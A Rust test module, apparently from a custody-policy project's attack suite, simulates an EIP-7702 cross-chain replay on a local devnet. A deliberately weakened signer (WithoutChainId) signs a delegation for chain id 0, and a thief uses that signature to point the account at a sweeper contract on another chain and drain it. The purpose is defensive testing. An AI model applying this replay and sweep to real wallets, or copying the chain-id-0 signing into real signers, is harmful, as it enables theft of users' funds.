//! An EIP-7702 authorization for "every chain" hands the account over where nobody looked (S8).
//!
//! 2025: in the weeks after Pectra most delegations on mainnet pointed at sweepers, contracts that
//! forward whatever arrives. An authorization with chain id 0 is valid on all chains at once, also on
//! those where the delegate's address holds other code than the code that was reviewed.
//!
//! The policy lets two people delegate to a wallet that was reviewed on our chain. On the other chain
//! the thief's sweeper stands at that address. Asked for chain id 0 the builder refuses; the twin takes
//! the ordinary authorization and signs it for all chains, so that nobody has to sign twice.

use alloy_consensus::TxEip7702;
use alloy_eips::eip7702::Authorization;
use alloy_primitives::{Address, B256, U256, address};
use alloy_rlp::{Decodable as _, Encodable as _};
use keystead_base::Digest;
use keystead_chain::{Payload, Unsigned};
use keystead_decision::{Controls, Outcome};
use keystead_devnet::Devnet;
use keystead_policy::{AddressEntry, PolicyVersion};
use keystead_quorum::Strict;

use super::chainless_legacy::{other_chain, sign_with_its_digest};
use crate::Loot;
use crate::contracts::{place, say, sweepCall};
use crate::fixture::{BIRTH, CHAIN, ETHER, name};
use crate::theft::{Outsider, STRICT_CHECKS, THIEF, add_rule, approved};
use crate::world::World;

/// Plays it.
pub fn attack<C: Controls>(controls: C) -> Loot {
    let mut world = World::with_policy(controls, may_delegate);
    let (_, first) = world.ask("dora", world.raw(preimage(0)));
    let (id, second) = world.ask("dora", world.raw(preimage(CHAIN.0)));
    let second = approved(&mut world, &id, second);
    let Outcome::Allow(_) = second else { return Loot::decided(&second) };
    let signature = match sign_with_its_digest(&mut world, &id) {
        Ok(signature) => signature,
        Err(refused) => return refused,
    };
    let mut other = other_chain(&world);
    submit(&mut other, signature);
    if other.code(world.account()).is_empty() {
        return Loot::decided(&first);
    }
    say(&mut other, THIEF, world.account(), &sweepCall { to: THIEF });
    Loot::stolen(other.balance(THIEF), "wei on the other chain")
}

/// The thief sends the signature in both readings: for all chains, and for ours.
fn submit(other: &mut Devnet, (r, s, odd_y): (B256, B256, bool)) {
    place(other, WALLET, "Sweeper");
    let thief = Outsider::new();
    other.fund(thief.address(), U256::from(ETHER));
    let (r, s) = (U256::from_be_bytes(r.0), U256::from_be_bytes(s.0));
    let signed = [0, CHAIN.0].map(|chain| {
        let signature = alloy_primitives::Signature::new(r, s, odd_y);
        authorization(chain).into_signed(signature)
    });
    let carrier = TxEip7702 {
        chain_id: other.chain_id(),
        nonce: 0,
        gas_limit: 200_000,
        max_fee_per_gas: 2_000_000_000,
        max_priority_fee_per_gas: 1_000_000_000,
        to: THIEF,
        authorization_list: signed.to_vec(),
        ..TxEip7702::default()
    };
    let receipt = other.execute_raw(&thief.sign(carrier)).expect("a transaction of the thief's own");
    assert!(receipt.outcome.is_success());
}

fn may_delegate(policy: &mut PolicyVersion) {
    let usable_from = BIRTH;
    policy.address_book.push(AddressEntry {
        chain: CHAIN,
        address: WALLET,
        name: name("wallet"),
        usable_from,
    });
    policy.address_book.sort_by_key(|entry| (entry.chain, entry.address));
    let rule = r#"permit(principal in Role::"trader", action == Action::"raw_ethereum", resource == Key::"hot")
                  when { context.kind == "delegation" && context.destination_name == "wallet" };"#;
    add_rule(policy, "reviewed-wallet", rule);
}

fn authorization(chain: u64) -> Authorization {
    Authorization { chain_id: U256::from(chain), address: WALLET, nonce: 0 }
}

/// EIP-7702: `0x05 || rlp([chain, address, nonce])`.
fn preimage(chain: u64) -> Vec<u8> {
    let mut bytes = vec![0x05];
    authorization(chain).encode(&mut bytes);
    bytes
}

/// The delegate that was reviewed on our chain.
const WALLET: Address = address!("0000000000000000000000000000000000077021");

/// Controls that sign a delegation for all chains at once.
#[derive(Clone, Copy, Debug, Default)]
pub struct WithoutChainId;

impl Controls for WithoutChainId {
    type Checks = Strict;

    fn checks(&self) -> &Strict {
        &STRICT_CHECKS
    }

    fn granted_digest(&self, unsigned: &Unsigned) -> Digest {
        match unsigned.payload() {
            Payload::Authorization(bytes) => {
                let named = Authorization::decode(&mut &bytes[1..]).expect("the authorization");
                Digest(Authorization { chain_id: U256::ZERO, ..named }.signature_hash().0)
            }
            _ => unsigned.signing_digest(),
        }
    }
}
